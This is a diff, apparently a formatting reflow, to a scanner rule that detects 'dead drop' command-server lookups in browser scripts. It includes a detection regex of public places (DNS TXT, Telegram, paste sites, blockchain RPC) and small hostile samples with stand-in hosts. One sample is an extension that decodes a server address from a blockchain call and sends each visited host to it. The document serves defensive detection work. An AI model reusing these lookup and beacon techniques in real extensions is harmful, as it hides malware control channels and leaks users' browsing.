@@ -10,9 +10,11 @@ import { leavesBy } from './sendings.ts';
 import { callsWithin, few } from './usage.ts';
 
 /** Public places in which anybody can leave a text. */
-const PLACES = /\/\/(?:(?:[\w-]+\.)?cloudflare-dns\.com\/|dns\.google\/|dns\.quad9\.net|doh\.[\w.-]+\/|[^/]+\/dns-query|t\.me\/|telegra\.ph\/|api\.telegra\.ph\/|pastebin\.com\/|paste\.ee\/|rentry\.co\/|hastebin\.com\/|gist\.github(?:usercontent)?\.com\/|api\.github\.com\/gists|docs\.google\.com\/(?:spreadsheets|document|forms|presentation)|sheets\.googleapis\.com\/|(?:www\.)?steamcommunity\.com\/|(?:www\.)?youtube\.com\/(?:watch|channel|@)|(?:mobile\.)?(?:twitter|x)\.com\/|[\w.-]*mastodon[\w.-]*\/|[\w-]+\.blogspot\.com\/|calendar\.(?:app\.)?google|blockchain\.info\/|mempool\.space\/|blockstream\.info\/|api\.etherscan\.io\/|api\.blockcypher\.com\/)/i;
+const PLACES =
+  /\/\/(?:(?:[\w-]+\.)?cloudflare-dns\.com\/|dns\.google\/|dns\.quad9\.net|doh\.[\w.-]+\/|[^/]+\/dns-query|t\.me\/|telegra\.ph\/|api\.telegra\.ph\/|pastebin\.com\/|paste\.ee\/|rentry\.co\/|hastebin\.com\/|gist\.github(?:usercontent)?\.com\/|api\.github\.com\/gists|docs\.google\.com\/(?:spreadsheets|document|forms|presentation)|sheets\.googleapis\.com\/|(?:www\.)?steamcommunity\.com\/|(?:www\.)?youtube\.com\/(?:watch|channel|@)|(?:mobile\.)?(?:twitter|x)\.com\/|[\w.-]*mastodon[\w.-]*\/|[\w-]+\.blogspot\.com\/|calendar\.(?:app\.)?google|blockchain\.info\/|mempool\.space\/|blockstream\.info\/|api\.etherscan\.io\/|api\.blockcypher\.com\/)/i;
 /** Questions to a node of a blockchain. */
-const CHAIN = /^(eth_call|eth_getStorageAt|eth_getTransactionByHash|eth_getLogs|getTransaction|getSignaturesForAddress|getAccountInfo|sui_getObject|sui_getTransactionBlock)$/;
+const CHAIN =
+  /^(eth_call|eth_getStorageAt|eth_getTransactionByHash|eth_getLogs|getTransaction|getSignaturesForAddress|getAccountInfo|sui_getObject|sui_getTransactionBlock)$/;
 const CHAIN_HINT = /eth_|getTransaction|getSignaturesForAddress|getAccountInfo|sui_get/;
 
 export const deadDropAddress = defineRule({
@@ -31,31 +33,65 @@ export const deadDropAddress = defineRule({
     const drops = dropsOf(script);
     const kept = drops.length === 0 && facts.whole(someDropIsKept);
     if (drops.length === 0 && !kept) return;
-    const clicked = new Set(listenersOf(script, 'click', 'submit', 'change').flatMap(({ fn }) => callsWithin(script, fn).map((call) => call.value)));
+    const clicked = new Set(
+      listenersOf(script, 'click', 'submit', 'change').flatMap(({ fn }) =>
+        callsWithin(script, fn).map((call) => call.value),
+      ),
+    );
     for (const request of few(requestsOf(script), 200)) {
       // What the person asked for may well lead on: the picture of a token, a document of a list.
       if (clicked.has(request.value)) continue;
-      if (request.address === 0 || hostOf(request.to) !== undefined || !/^(?:(?:https?|wss?):\/\/)?\*/.test(request.to)) continue;
+      if (request.address === 0 || hostOf(request.to) !== undefined || !/^(?:(?:https?|wss?):\/\/)?\*/.test(request.to))
+        continue;
       const origins = originsOf(script, request.address);
       const drop = drops.find((one) => one.value !== request.value && origins.has(one.value));
       if (drop === undefined && !(kept && isHeldServerText(facts, script, request.address))) continue;
       const paths = originPaths(script, request.address);
-      const decoded = ['atob', 'String.fromCharCode', 'TextDecoder', 'TextDecoder().decode'].some((path) => paths.has(path));
-      yield hit(request.value, { ...(decoded || drop === undefined ? { severity: 'high' as const } : {}), message: drop === undefined ? 'Its address was left in a public place and kept.' : `Its address is what ${hostOf(drop.to) ?? 'a node of a blockchain'} answers${decoded ? ', decoded' : ''}.` });
+      const decoded = ['atob', 'String.fromCharCode', 'TextDecoder', 'TextDecoder().decode'].some((path) =>
+        paths.has(path),
+      );
+      yield hit(request.value, {
+        ...(decoded || drop === undefined ? { severity: 'high' as const } : {}),
+        message:
+          drop === undefined
+            ? 'Its address was left in a public place and kept.'
+            : `Its address is what ${hostOf(drop.to) ?? 'a node of a blockchain'} answers${decoded ? ', decoded' : ''}.`,
+      });
       return;
     }
   }),
   examples: {
     bad: [
-      backgroundExample('const txt = async (n) => { const r = await fetch(`https://cloudflare-dns.com/dns-query?name=${n}&type=TXT`, { headers: { accept: "application/dns-json" } }); const { Answer } = await r.json(); return Answer[0].data; }; (async () => { const home = atob(await txt("cfg.x.example")); const j = await (await fetch(home + "/q")).json(); use(j); })();'),
-      backgroundExample('(async () => { const page = await (await fetch("https://t.me/s/somenews")).text(); const host = /~([^~]+)~/.exec(page)[1]; navigator.sendBeacon("https://" + host + "/f", "1"); })();'),
-      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}', 'bg.js': 'chrome.alarms.onAlarm.addListener(async () => { const r = await fetch("https://rpc.chain.example/", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", method: "eth_call", params: [{ to: "0x1" }, "latest"] }) }); const { result } = await r.json(); let s = ""; for (let i = 2; i < result.length; i += 2) s += String.fromCharCode(parseInt(result.substr(i, 2), 16)); chrome.storage.local.set({ srv: s }); });', 'c.js': 'chrome.storage.local.get("srv", async ({ srv }) => { const t = await (await fetch(srv + "/i?h=" + location.host)).text(); use(t); });' } },
+      backgroundExample(
+        'const txt = async (n) => { const r = await fetch(`https://cloudflare-dns.com/dns-query?name=${n}&type=TXT`, { headers: { accept: "application/dns-json" } }); const { Answer } = await r.json(); return Answer[0].data; }; (async () => { const home = atob(await txt("cfg.x.example")); const j = await (await fetch(home + "/q")).json(); use(j); })();',
+      ),
+      backgroundExample(
+        '(async () => { const page = await (await fetch("https://t.me/s/somenews")).text(); const host = /~([^~]+)~/.exec(page)[1]; navigator.sendBeacon("https://" + host + "/f", "1"); })();',
+      ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
+          'bg.js':
+            'chrome.alarms.onAlarm.addListener(async () => { const r = await fetch("https://rpc.chain.example/", { method: "POST", body: JSON.stringify({ jsonrpc: "2.0", method: "eth_call", params: [{ to: "0x1" }, "latest"] }) }); const { result } = await r.json(); let s = ""; for (let i = 2; i < result.length; i += 2) s += String.fromCharCode(parseInt(result.substr(i, 2), 16)); chrome.storage.local.set({ srv: s }); });',
+          'c.js':
+            'chrome.storage.local.get("srv", async ({ srv }) => { const t = await (await fetch(srv + "/i?h=" + location.host)).text(); use(t); });',
+        },
+      },
     ],
     good: [
-      backgroundExample('show.onclick = async () => { const r = await fetch("https://rpc.chain.example", { method: "POST", body: JSON.stringify({ method: "eth_call", params: [{ to: box.value }] }) }); const { result } = await r.json(); const meta = await (await fetch(decodeURIComponent(result.slice(130).replace(/../g, "%$&")))).json(); img.src = meta.image; };'),
-      backgroundExample('(async () => { const r = await fetch("https://cloudflare-dns.com/dns-query?name=a.example&type=A"); const { Answer } = await r.json(); chrome.action.setBadgeText({ text: Answer[0].data }); fetch("https://tool.example/ping"); })();'),
-      backgroundExample('(async () => { const { upload } = await (await fetch("https://api.tool.example/session")).json(); await fetch(upload, { method: "PUT", body: "x" }); })();'),
-      backgroundExample('(async () => { const r = await (await fetch("https://docs.google.com/spreadsheets/d/e/x/pub?output=csv")).text(); chrome.storage.local.set({ rows: r.split("\\n").length }); fetch(chrome.runtime.getURL("a.json")); })();'),
+      backgroundExample(
+        'show.onclick = async () => { const r = await fetch("https://rpc.chain.example", { method: "POST", body: JSON.stringify({ method: "eth_call", params: [{ to: box.value }] }) }); const { result } = await r.json(); const meta = await (await fetch(decodeURIComponent(result.slice(130).replace(/../g, "%$&")))).json(); img.src = meta.image; };',
+      ),
+      backgroundExample(
+        '(async () => { const r = await fetch("https://cloudflare-dns.com/dns-query?name=a.example&type=A"); const { Answer } = await r.json(); chrome.action.setBadgeText({ text: Answer[0].data }); fetch("https://tool.example/ping"); })();',
+      ),
+      backgroundExample(
+        '(async () => { const { upload } = await (await fetch("https://api.tool.example/session")).json(); await fetch(upload, { method: "PUT", body: "x" }); })();',
+      ),
+      backgroundExample(
+        '(async () => { const r = await (await fetch("https://docs.google.com/spreadsheets/d/e/x/pub?output=csv")).text(); chrome.storage.local.set({ rows: r.split("\\n").length }); fetch(chrome.runtime.getURL("a.json")); })();',
+      ),
     ],
   },
 });
@@ -65,12 +101,16 @@ function dropsOf(script: ScriptFacts): Request[] {
   const requests = few(requestsOf(script), 200);
   // The cheap questions first: most scripts know all hosts that they talk to.
   const places = requests.filter((request) => PLACES.test(request.to));
-  if (places.length > 0 || !requests.some((request) => request.sent.length > 1) || !mentions(script, CHAIN_HINT)) return places;
-  return requests.filter((request) => request.sent.some((value) => value !== request.address && asksChain(script, value)));
+  if (places.length > 0 || !requests.some((request) => request.sent.length > 1) || !mentions(script, CHAIN_HINT))
+    return places;
+  return requests.filter((request) =>
+    request.sent.some((value) => value !== request.address && asksChain(script, value)),
+  );
 }
 
 function asksChain(script: ScriptFacts, value: number): boolean {
-  for (const one of originsOf(script, value)) if (script.op[one] === Op.constant && CHAIN.test(constant(script, one) ?? '')) return true;
+  for (const one of originsOf(script, value))
+    if (script.op[one] === Op.constant && CHAIN.test(constant(script, one) ?? '')) return true;
   return false;
 }
 
@@ -79,7 +119,8 @@ function someDropIsKept(facts: Facts): boolean {
   for (const { file, script } of scriptsOf(facts)) {
     if (file.traits.vendored || script.stats.values > 60_000) continue;
     const drops = dropsOf(script);
-    if (drops.length > 0 && leavesBy(script, new Set(drops.map((drop) => drop.value)), ['storage']) !== undefined) return true;
+    if (drops.length > 0 && leavesBy(script, new Set(drops.map((drop) => drop.value)), ['storage']) !== undefined)
+      return true;
   }
   return false;
 }
